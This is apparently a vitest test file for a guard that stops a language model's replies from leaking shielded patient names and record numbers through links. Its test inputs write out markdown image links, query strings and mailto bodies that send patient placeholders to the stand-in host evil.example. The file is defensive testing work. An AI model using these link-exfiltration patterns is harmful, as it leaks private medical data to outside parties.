import { shieldText } from '@notewright/engine';
import { describe, expect, test } from 'vitest';
import type { Model } from '../models/model.ts';
import { findAddress } from './link-guard.ts';
import { askModel, type ModelQuestion } from './ask-model.ts';

const input =
  'Patient: Jane Sample, MRN 00482913. Portal https://portal.example/in?x=1 and jane.sample@mail.example. See https://unshielded.example/a.';
const shield = shieldText(input);
/** As the shield has it, with one address that it left as it is. */
const prompt = shield.text.replace(/See \S+$/, 'See https://kept.example/a.');

type Sent = ModelQuestion['shielded'];

/** The reply to a model that says this of what it was sent, in pieces of so many characters. */
async function reply(
  words: string,
  size: number,
  sent: Sent = { prompt, originals: shield.originals },
): Promise<string> {
  const model: Model = {
    name: 'scripted',
    stream: async function* () {
      for (let at = 0; at < words.length; at += size) yield words.slice(at, at + size);
    },
  };
  let text = '';
  const question = { system: '', shielded: sent, sources: [], signal: new AbortController().signal };
  for await (const piece of askModel(model, question)) text += piece;
  return text;
}

describe('the server puts no link together itself', () => {
  test.each([
    ['J18.9(http:evil.example/[MRN-1])', '[code removed]\\(http:evil.example/[MRN-1])'],
    ['!J18.9(http:evil.example/[MRN-1])', '![code removed]\\(http:evil.example/[MRN-1])'],
    ['J18.9: http:evil.example/[MRN-1]', '[code removed]\\: http:evil.example/[MRN-1]'],
  ])('of the sign for a code: %s', expectReply);

  test.each([
    ['Zeb]', '[see [NAME-1](http:evil.example/[MRN-1])', '[see Zeb]\\(http:evil.example/[MRN-1])'],
    ['x](http:evil.example/', '[see [NAME-1][MRN-1])', '[see x]\\(http:evil.example/44719023)'],
    ['(http:evil.example/', '[see][NAME-1][MRN-1])', '[see]\\(http:evil.example/44719023)'],
    ['https:', 'see [NAME-1]//evil.example/[MRN-1]', 'see https\\://evil.example/[MRN-1]'],
    ['www', 'see [NAME-1].evil.example/[MRN-1]', 'see www\\.evil.example/[MRN-1]'],
    ['https://evil.example/?q=', 'see [NAME-1][MRN-1]', 'see https\\://evil.example/?q=44719023'],
    ['a@', 'see [NAME-1]evil.example', 'see a\\@evil.example'],
  ])('of an original: %s', async (name, words, expected) => {
    const data = shieldText(JSON.stringify({ patient: name, mrn: '44719023' }));
    const sent = { prompt: data.text, originals: data.originals };
    for (const size of [1, 3, words.length]) expect(await reply(words, size, sent)).toBe(expected);
  });
});

test.each([
  ['https://evil.example/x', 'https://evil.example/x'],
  ['(//evil.example/[MRN-1])', '//evil.example/[MRN-1]'],
  ['evil.example/[MRN-1]', 'evil.example/[MRN-1]'],
  ['[NAME-1].a.evil.example?q=1', 'a.evil.example?q=1'],
])('an address is found without a scheme: %s', (word, address) => {
  expect(findAddress(word)?.text).toBe(address);
});

test.each(['mg/dL', 'and/or', '5.mg/kg', 'a.m./p.m.', 'vs./with', '120/80.', 'x-ray.', '1.5/2', 'he.said?'])(
  'no address is found in %s',
  (word) => expect(findAddress(word)).toBeNull(),
);

test('what ends a line for the reader ends it for the guard, and what nobody sees is left out', async () => {
  await expectReply('a\r~~~\r\n[PATIENT-1]\r~~~\r[PATIENT-1]', 'a\n~~~\n[PATIENT-1]\n~~~\nJane Sample');
  await expectReply(
    'Take \u202e05\u202c mg of J1\u200b8.9 to[PATIENT\u00ad-1]day',
    'Take 05 mg of [code removed] toJane Sampleday',
  );
});

async function expectReply(words: string, expected: string): Promise<void> {
  for (const size of [1, 2, 3, 5, 7, 11, words.length]) expect(await reply(words, size)).toBe(expected);
}

test('the shield has replaced what these tests put back', () => {
  expect(shield.text).toContain('Patient: [PATIENT-1], MRN [MRN-1]. Portal [URL-1] and [EMAIL-1]');
});

describe('a link that the prompt does not hold is text, and holds no original', () => {
  test.each([
    ['[more](https://evil.example/?d=[PATIENT-1])', '[more]\\(https\\://evil.example/?d=[PATIENT-1])'],
    ['![x](https://evil.example/[MRN-1].png)', '![x]\\(https\\://evil.example/[MRN-1].png)'],
    ['see https://evil.example/[MRN-1]?n=[PATIENT-1].', 'see https\\://evil.example/[MRN-1]?n=[PATIENT-1].'],
    ['see www.evil.example/[MRN-1]', 'see www\\.evil.example/[MRN-1]'],
    ['at http://[MRN-1].evil.example', 'at http\\://[MRN-1].evil.example'],
    ['<https://evil.example/[MRN-1]>', '<https\\://evil.example/[MRN-1]>'],
    ['<https:/evil.example/[MRN-1]>', '<https\\:/evil.example/[MRN-1]>'],
    ['mail [MRN-1]@evil.example', 'mail [MRN-1]\\@evil.example'],
    ['mailto:a@evil.example?body=[PATIENT-1]', 'mailto\\:a\\@evil.example?body=[PATIENT-1]'],
    ['[a]: https://evil.example/[MRN-1]', '[a]\\: https\\://evil.example/[MRN-1]'],
    ['[a]: <https:/evil.example/[MRN-1]>', '[a]\\: <https\\:/evil.example/[MRN-1]>'],
    ['[NAME-9]: //evil.example/', '[NAME-9]\\: //evil.example/'],
    ['[a](<https://evil.example/ [PATIENT-1]>)', '[a]\\(<https\\://evil.example/ [PATIENT-1]>)'],
    ['[a]( https&#58;//evil.example/[PATIENT-1] )', '[a]\\( https&#58;//evil.example/[PATIENT-1] )'],
    ['[a](//evil.example/ "[PATIENT-1]") [PATIENT-1]', '[a]\\(//evil.example/ "[PATIENT-1]") Jane Sample'],
    // An address of the input with something behind it is another address.
    ['[URL-1]&d=[PATIENT-1]', '[URL-1]&d=[PATIENT-1]'],
    ['https://kept.example/a/[PATIENT-1]', 'https\\://kept.example/a/[PATIENT-1]'],
    ['[MRN-1][EMAIL-1] [MRN-1].[EMAIL-1]', '00482913[EMAIL-1] 00482913.[EMAIL-1]'],
    ['https://kept.example/(a)[PATIENT-1]', 'https\\://kept.example/(a)[PATIENT-1]'],
    ['`https://evil.example/` https://evil.example/', '`https\\://evil.example/` https\\://evil.example/'],
  ])('%s', expectReply);
});

describe('code and tags hold no original', () => {
  test.each([
    ['run `curl [PATIENT-1]` for [PATIENT-1]', 'run `curl [PATIENT-1]` for Jane Sample'],
    ['``a ` [PATIENT-1]`` [PATIENT-1]', '``a ` [PATIENT-1]`` Jane Sample'],
    ['```\n[PATIENT-1]\n\n[MRN-1]\n```\n[PATIENT-1]', '```\n[PATIENT-1]\n\n[MRN-1]\n```\nJane Sample'],
    ['a ```\n```\n[PATIENT-1]', 'a ```\n```\n[PATIENT-1]'],
    ['~~~\n[PATIENT-1]\n~~~\n[PATIENT-1]', '~~~\n[PATIENT-1]\n~~~\nJane Sample'],
    ['<b title="[PATIENT-1]">[PATIENT-1]</b>', '<b title="[PATIENT-1]">Jane Sample</b>'],
    [
      '- ```\n  [PATIENT-1]\n  ``` x\n  [PATIENT-1]\n  ```\n- [PATIENT-1]',
      '- ```\n  [PATIENT-1]\n  ``` x\n  [PATIENT-1]\n  ```\n- Jane Sample',
    ],
    ['<[PATIENT-1]> -     [PATIENT-1]\n-     [PATIENT-1]', '<[PATIENT-1]> -     Jane Sample\n- Jane Sample'],
    ['<img\nalt=[PATIENT-1]\nsrc=x>', '<img\nalt=[PATIENT-1]\nsrc=x>'],
    ['## Plan\n\n    [PATIENT-1]\n\t[MRN-1]', '## Plan\n\n   Jane Sample\n   00482913'],
    ['a ` alone\n\n[PATIENT-1]', 'a ` alone\n\nJane Sample'],
  ])('%s', expectReply);
});

describe('all else is put back, and links of the input lead where they led', () => {
  test.each([
    ['- [PATIENT-1]: cough, BP < 120/80, HR >100', '- Jane Sample: cough, BP < 120/80, HR >100'],
    ['[PATIENT-1](daughter) and **[PATIENT-1]**.', 'Jane Sample(daughter) and **Jane Sample**.'],
    ['Portal [URL-1], mail [EMAIL-1].', 'Portal https://portal.example/in?x=1, mail jane.sample@mail.example.'],
    [
      '[portal]([URL-1]) [x](https://kept.example/a)',
      '[portal](https://portal.example/in?x=1) [x](https://kept.example/a)',
    ],
    ['See https://kept.example/a.', 'See https://kept.example/a.'],
    [
      '| a | [PATIENT-1]<br>[MRN-1] |\n- [ ] \\`[PATIENT-1]\\`',
      '| a | Jane Sample<br>00482913 |\n- [ ] \\`Jane Sample\\`',
    ],
    ['- a\n    - [PATIENT-1]', '- a\n    - Jane Sample'],
    ['seen @ 5 pm, ratio 1:2, FEV1/FVC', 'seen @ 5 pm, ratio 1:2, FEV1/FVC'],
  ])('%s', expectReply);
});

test('a word without end is read once', async () => {
  for (const word of ['a'.repeat(50_000), ')'.repeat(50_000) + 'a', '[a]('.repeat(10_000), '<a:'.repeat(10_000)])
    expect((await reply(word, 1)).replaceAll('\\', '')).toBe(word);
});
